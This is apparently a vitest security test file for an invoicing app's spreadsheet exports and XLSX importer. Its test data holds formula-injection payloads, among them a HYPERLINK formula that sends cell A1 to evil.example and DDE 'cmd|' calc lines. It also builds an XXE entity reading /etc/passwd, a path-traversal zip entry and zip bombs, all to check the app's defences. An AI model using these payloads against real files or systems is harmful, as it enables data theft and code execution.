import fc from 'fast-check'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openSource } from '../../electron/importers/tables/source.ts'
import { readXlsx } from '../../electron/importers/tables/xlsx.ts'
import { csvOf } from '../../renderer/app/bulk/csv.ts'
import { reportCsv } from '../../renderer/features/settings/numbering/report-csv.ts'
import { csvBytes } from '../../renderer/ui/csv.ts'
import { sheetNames } from '../../shared/contract/data-exports.ts'
import { guardFormula, withoutGuard } from '../../shared/formula-guard.ts'
import { sources } from '../architecture/sources.ts'
import { cpuTime } from '../support/cpu-time.ts'
import { line, makeClient, makeInvoice } from '../support/factories.ts'
import { importFile } from '../support/import-files.ts'
import { openWorkspace, type Workspace } from '../support/workspace.ts'

const evil = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  `=cmd|' /C calc'!A0`,
  '+1+cmd|x!A1',
  '-2+3+cmd|x!A1',
  '@SUM(1+1)*cmd|x!A1',
  '"=1+1"',
  "'=1+1",
  '＝1+1',
  '=1+1";=1+1,"=1',
]
// Line ends and tabs never get as far as a name: fields of one line refuse or flatten them.
const raw = ['\t=1+1', '\r=1+1', '\n=1+1']
const startsFormula = /^\s*["']*[=+\-@＝＋－＠]/
const number = /^-?\d+(\.\d+)?$/

const cellsOf = (bytes: Uint8Array): string[] =>
  Papa.parse<string[]>(new TextDecoder().decode(bytes).replace(/^\uFEFF/, '')).data.flat()

const expectHarmless = (cells: readonly string[]) => {
  for (const cell of cells) if (startsFormula.test(cell) && !number.test(cell)) expect(cell).toMatch(/^'/)
}

let workspace: Workspace
beforeAll(async () => {
  workspace = await openWorkspace()
  for (const name of evil) {
    const clientId = await makeClient(workspace, name)
    await makeInvoice(workspace, clientId, { lines: [line({ name })], reference: name })
    await workspace.call('clientNotes.create', { clientId, kind: 'general', content: name })
  }
})
afterAll(() => workspace.close())

describe('the guard', () => {
  test('leaves no text that begins a formula, and comes off without a trace', () => {
    const sharp = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', "'", '"', '\t', '\r', '\n', '＝', 'a', '1', ' ', ';', ','),
    })
    fc.assert(
      fc.property(fc.oneof(sharp, fc.string({ unit: 'binary' }), fc.constantFrom(...evil, ...raw)), (text) => {
        expect(guardFormula(text)).not.toMatch(/^"?[=+\-@\t\r\n＝＋－＠]/)
        expect(withoutGuard(guardFormula(text))).toBe(text)
      }),
      { numRuns: 5000 },
    )
  })
})

describe('every way out as CSV', () => {
  test.each(sheetNames)('the sheet %s', async (sheet) => {
    const { content } = await workspace.call('dataExports.sheet', { sheet, separator: ',' })
    const cells = cellsOf(content)
    expectHarmless(cells)
    if (sheet === 'clients') for (const name of evil) expect(cells).toContain(guardFormula(name))
  })

  test('the bundle for an accountant', async () => {
    const { content } = await workspace.call('dataExports.bundle', {})
    const csv = Object.entries(unzipSync(content)).filter(([name]) => name.endsWith('.csv'))
    expect(csv).toHaveLength(sheetNames.length)
    for (const [, bytes] of csv) expectHarmless(cellsOf(bytes))
  })

  test('chosen rows of a list, reports, and the report of numbers', () => {
    const texts = [...evil, ...raw]
    const columns = [{ header: '=Name', value: (text: string) => text }]
    expectHarmless(cellsOf(strToU8(csvOf(columns, texts))))
    expectHarmless(cellsOf(csvBytes(texts.map((text) => [text]))))
    const hostile = texts.map((text) => ({
      documentKind: 'invoice' as const,
      code: text,
      period: text,
      firstNumber: text,
      lastNumber: text,
      count: 1,
      voids: [{ id: '1', number: text, on: '2026-01-01', reason: text }],
      gaps: [],
      seriesId: '1',
    }))
    // The report has more fields than its CSV reads.
    expectHarmless(cellsOf(strToU8(reportCsv(hostile as unknown as Parameters<typeof reportCsv>[0]))))
  })

  test('there is no other', () => {
    const writers = sources
      .filter(
        ({ path, text }) => /^(electron|renderer)\//.test(path) && /Papa\.unparse|replaceAll\('"', '""'\)/.test(text),
      )
      .map(({ path, text }) => [path, /formula-guard|from '\.\/cells\.ts'/.test(text)])
    expect(writers.length).toBeGreaterThanOrEqual(4)
    for (const [path, isGuarded] of writers) expect(`${path} ${isGuarded}`).toBe(`${path} true`)
  })
})

test('what was guarded on the way out comes in again as it was', async () => {
  const { content } = await workspace.call('dataExports.sheet', { sheet: 'clients', separator: ',' })
  const other = await openWorkspace()
  await importFile(other, content, { entity: 'clients' })
  const { rows } = await other.call('clients.list', { limit: 100 })
  const names = new Set(rows.map(({ name }) => name))
  for (const name of evil) expect([...names]).toContain(name)
  await other.close()
})

describe('a workbook', () => {
  test('that is written holds no formula, whatever the texts', async () => {
    const { content } = await workspace.call('dataExports.workbook', { sheets: [] })
    const parts = Object.entries(unzipSync(content)).filter(([name]) => name.endsWith('.xml'))
    const all = parts.map(([, bytes]) => strFromU8(bytes)).join('')
    expect(all).toContain('cmd|')
    expect(all).not.toMatch(/<f[\s>]|<(\w+:)?formula|externalLink|ddeLink/i)
    for (const [name] of parts) expect(name).not.toMatch(/external|macro|vba|connections/i)
  })

  const workbook = (sheet: string, more: Record<string, Uint8Array> = {}) =>
    zipSync({
      '[Content_Types].xml': strToU8('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
      'xl/workbook.xml': strToU8(
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>',
      ),
      'xl/_rels/workbook.xml.rels': strToU8(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
      'xl/worksheets/sheet1.xml': strToU8(
        `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${sheet}</worksheet>`,
      ),
      ...more,
    })
  const cell = (text: string) =>
    `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row></sheetData>`
  const outcome = (bytes: Uint8Array) =>
    readXlsx(bytes).then(
      (sheets) => JSON.stringify(sheets),
      (error: unknown) => String(error),
    )

  test('that is plain is read', async () => {
    expect(await outcome(workbook(cell('Rosewood')))).toContain('Rosewood')
  })

  test.each<[string, () => Uint8Array]>([
    [
      'of too many files',
      () =>
        workbook(
          cell('x'),
          Object.fromEntries(Array.from({ length: 2100 }, (_, at) => [`junk/${at}`, new Uint8Array(1)])),
        ),
    ],
    [
      'of a hundred megabytes of nothing',
      () => workbook(cell('x'), { 'xl/media/a.xml': new Uint8Array(100 * 1024 * 1024) }),
    ],
    [
      'that unpacks to gigabytes by its own word',
      () => {
        const bytes = workbook(cell('x'))
        const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
        for (let at = 0; at + 46 < bytes.length; at += 1)
          if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 0x7fffffff, true)
        return bytes
      },
    ],
  ])('%s is refused before it is unpacked', async (_name, make) => {
    const bytes = make()
    const started = cpuTime()
    await expect(readXlsx(bytes)).rejects.toThrow(/unpacks to|holds far more|damaged/)
    expect(cpuTime() - started).toBeLessThan(2000)
  })

  test('that lies about its size gives no more than it said', async () => {
    const bytes = workbook(cell('y'.repeat(3_000_000)))
    const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
    for (let at = 0; at + 46 < bytes.length; at += 1)
      if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 200, true)
    expect((await outcome(bytes)).length).toBeLessThan(10_000)
  })

  test.each<[string, string]>([
    ['nested a hundred thousand deep', `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}${cell('x')}`],
    ['that never ends', '<sheetData><row r="1">'],
    [
      'with a cell at the end of the world',
      '<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    ],
    [
      'with a cell beyond the world',
      '<sheetData><row r="99999999999"><c r="ZZZZZZZZ99999999999" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    ],
  ])('with a sheet %s is read or refused in words, soon', async (_name, sheet) => {
    const started = cpuTime()
    const said = await outcome(workbook(sheet))
    expect(said).not.toMatch(/RangeError|heap|stack/)
    expect(cpuTime() - started).toBeLessThan(5000)
  })

  test('with a DTD, entities and paths out of it gives none of them', async () => {
    const dtd = '<!DOCTYPE worksheet [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'
    const bytes = workbook('', {
      'xl/worksheets/sheet1.xml': strToU8(
        `${dtd}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${cell('&a;&b;')}</worksheet>`,
      ),
      '../../../tmp/counterfoil-slip.txt': strToU8('x'),
    })
    expect(await outcome(bytes)).not.toContain('root:')
  })

  test('brings formulas in as the text that they showed', async () => {
    const sheet =
      '<sheetData><row r="1"><c r="A1" t="str"><f>HYPERLINK("https://evil.example")</f><v>Shown</v></c></row></sheetData>'
    expect(await outcome(workbook(sheet))).toContain('Shown')
    expect(await outcome(workbook(sheet))).not.toContain('HYPERLINK')
  })
})

test('a table of a million separators is read or refused in words, soon', async () => {
  const started = cpuTime()
  const wide = strToU8(`${','.repeat(1_000_000)}\n`.repeat(3))
  await openSource(wide, { sheet: null, encoding: null, separator: null }).catch((error: unknown) =>
    expect(String(error)).toMatch(/\w{4}/),
  )
  expect(cpuTime() - started).toBeLessThan(5000)
})
